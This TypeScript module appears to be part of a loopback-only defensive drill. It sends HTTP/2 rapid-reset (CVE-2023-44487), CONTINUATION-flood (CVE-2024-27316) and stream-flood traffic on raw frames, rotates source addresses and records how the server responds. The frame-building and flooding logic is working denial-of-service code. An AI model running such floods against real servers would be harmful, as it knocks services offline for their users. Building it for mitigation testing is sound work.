/**
 * The HTTP/2 flood attackers of the drill, on raw frames (h2-raw.ts) since node:http2's client will
 * not misbehave: each worker holds one connection from one source address at a time, floods it until
 * the server ends it, and opens the next — paying a TLS handshake each time, as a real attacker must.
 *
 * - `rapid_reset` (CVE-2023-44487): HEADERS immediately followed by RST_STREAM, in batches;
 * - `continuation` (CVE-2024-27316): one HEADERS without END_HEADERS, then CONTINUATION frames that never
 *   end the block;
 * - `stream_flood`: after acknowledging the server's SETTINGS, far more streams at once than its
 *   SETTINGS_MAX_CONCURRENT_STREAMS, on a page that goes to the origin.
 * `rate` counts attack units per second over all workers: streams for rapid_reset and stream_flood,
 * CONTINUATION frames for continuation. Every run is bounded by the drill's count, duration, sockets and
 * signal, and loopback only.
 */
import { encodeFrame, headerBlock, requestBlock } from '../../core/http2/frame-encode.ts';
import { FLAG, FRAME, h2ErrorName } from '../../core/http2/frame-scanner.ts';
import { assertLoopbackTarget } from '../loopback-guard.ts';
import { sourceAddress, type SourceRange } from '../source-pool.ts';
import { createKeyedCounter } from '../stats.ts';
import { checkBounds, sleep, startBoundedRun, type AttackBounds, type StoppedBy } from './bounds.ts';
import { connectRawH2, parseGoaway, rstStream, type RawH2, type ServerFrame } from './h2-raw.ts';

export type H2FloodKind = 'rapid_reset' | 'continuation' | 'stream_flood';

export interface H2FloodOptions {
  readonly kind: H2FloodKind;
  /** `https://127.x.y.z:port` (loopback only). */
  readonly target: string;
  /** Path requested (stream floods want one that reaches the origin). */
  readonly path?: string;
  /** Attack units per second over all workers. */
  readonly ratePerS: number;
  readonly sources: number;
  readonly sourceRange?: SourceRange;
  /** Connections held at once (workers). Default min(sources, 32). */
  readonly connections?: number;
  readonly bounds: AttackBounds;
  readonly signal?: AbortSignal;
}

/** What an HTTP/2 flood saw. */
export interface H2FloodResult {
  readonly kind: H2FloodKind;
  /** Attack units sent (streams, or CONTINUATION frames). */
  readonly sent: number;
  /** Streams the server answered (a HEADERS frame back), by status where it could be read. */
  readonly answered: number;
  readonly byStatus: Readonly<Record<string, number>>;
  readonly connectionsOpened: number;
  /** Connections that failed before the TLS handshake finished (refused at accept, banned). */
  readonly connectFailed: number;
  /** GOAWAY frames received, by the debug reason the server gave (`rapid_reset`…) or the code's name. */
  readonly goaways: Readonly<Record<string, number>>;
  /** RST_STREAM frames the server sent, by code name. */
  readonly serverResets: Readonly<Record<string, number>>;
  readonly durationMs: number;
  readonly stoppedBy: StoppedBy;
}

/** The status of a response header block as node:http2 encodes it first (static table, or a literal). */
export function statusOfBlock(block: Buffer): number | null {
  const b = block[0];
  const statics: Record<number, number> = { 0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500 };
  if (b !== undefined && statics[b] !== undefined) return statics[b]!;
  if ((b === 0x48 || b === 0x08 || b === 0x18) && block[1] === 3) return Number(block.subarray(2, 5).toString('latin1')) || null;
  return null;
}

/** Runs one HTTP/2 flood; resolves with what it saw once every connection is closed. */
export async function runH2Flood(o: H2FloodOptions): Promise<H2FloodResult> {
  const url = assertLoopbackTarget(o.target);
  if (url.protocol !== 'https:') throw new Error(`an HTTP/2 flood needs an https target, not ${o.target}`);
  const bounds = checkBounds(o.bounds);
  const run = startBoundedRun(bounds, o.signal);
  const host = url.hostname.replace(/^\[|\]$/g, '');
  const port = Number(url.port || 443);
  const path = o.path ?? '/';
  const workers = Math.max(1, Math.min(o.connections ?? Math.min(o.sources, 32), bounds.maxSockets, o.sources));
  const byStatus = createKeyedCounter(64);
  const goaways = createKeyedCounter(32);
  const serverResets = createKeyedCounter(32);
  const s = { sent: 0, answered: 0, opened: 0, failed: 0, nextSource: 0 };
  // A shared token bucket paces the units over all workers.
  let tokens = 0;
  let last = performance.now();
  const take = async (n: number): Promise<boolean> => {
    for (;;) {
      if (run.signal.aborted || s.sent >= bounds.maxRequests) return false;
      const now = performance.now();
      tokens = Math.min(o.ratePerS, tokens + ((now - last) * o.ratePerS) / 1000);
      last = now;
      if (tokens >= n) {
        tokens -= n;
        s.sent += n;
        return true;
      }
      await sleep(Math.max(1, ((n - tokens) * 1000) / o.ratePerS), run.signal);
    }
  };

  const count = (f: ServerFrame): void => {
    if (f.type === FRAME.HEADERS && f.streamId !== 0) {
      s.answered++;
      byStatus.add(statusOfBlock(f.payload) ?? 'unknown');
    } else if (f.type === FRAME.GOAWAY) {
      const g = parseGoaway(f);
      goaways.add(g.debug !== '' && /^[a-z_]+$/.test(g.debug) ? g.debug : h2ErrorName(g.code));
    } else if (f.type === FRAME.RST_STREAM && f.payload.length >= 4) serverResets.add(h2ErrorName(f.payload.readUInt32BE(0)));
  };

  const attack = async (c: RawH2): Promise<void> => {
    let id = 1;
    const block = requestBlock(url.host, path, [['user-agent', 'h2-flood/1.0']]);
    if (o.kind === 'continuation') {
      c.send(encodeFrame(FRAME.HEADERS, FLAG.END_STREAM, 1, block));
      for (let i = 0; !c.isClosed && !c.goneAway; i++) {
        if (!(await take(1))) return;
        c.send(encodeFrame(FRAME.CONTINUATION, 0, 1, headerBlock([[`x-c${i % 1000}`, 'v']])));
      }
      return;
    }
    const batch = o.kind === 'stream_flood' ? 200 : 20;
    // After a GOAWAY the server takes no new stream: a flooder moves on to a new connection at once.
    while (!c.isClosed && !c.goneAway) {
      if (!(await take(batch))) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < batch; i++, id += 2) {
        frames.push(encodeFrame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, block));
        if (o.kind === 'rapid_reset') frames.push(rstStream(id));
      }
      c.send(Buffer.concat(frames));
      // Stream floods wait for the server's verdict on this burst before the next.
      if (o.kind === 'stream_flood') await c.closed(1000);
    }
  };

  const worker = async (): Promise<void> => {
    while (!run.signal.aborted && s.sent < bounds.maxRequests) {
      const source = sourceAddress(s.nextSource++ % o.sources, o.sourceRange);
      let c: RawH2;
      try {
        c = await connectRawH2({ host, port, localAddress: source, servername: url.hostname === '127.0.0.1' ? undefined : url.hostname });
      } catch {
        s.failed++;
        await sleep(10, run.signal);
        continue;
      }
      s.opened++;
      const onAbort = (): void => c.close();
      run.signal.addEventListener('abort', onAbort, { once: true });
      // The server's SETTINGS and the ACK of ours: a conforming start.
      await c.next((f) => f.type === FRAME.SETTINGS && (f.flags & FLAG.ACK) !== 0, 2000);
      await attack(c);
      if (!c.goneAway) await c.closed(2000);
      c.close();
      for (const f of c.frames) count(f);
      run.signal.removeEventListener('abort', onAbort);
    }
  };

  await Promise.all(Array.from({ length: workers }, () => worker()));
  run.dispose();
  return {
    kind: o.kind,
    sent: s.sent,
    answered: s.answered,
    byStatus: byStatus.snapshot(),
    connectionsOpened: s.opened,
    connectFailed: s.failed,
    goaways: goaways.snapshot(),
    serverResets: serverResets.snapshot(),
    durationMs: Math.round(run.elapsedMs()),
    stoppedBy: run.stoppedBy(),
  };
}
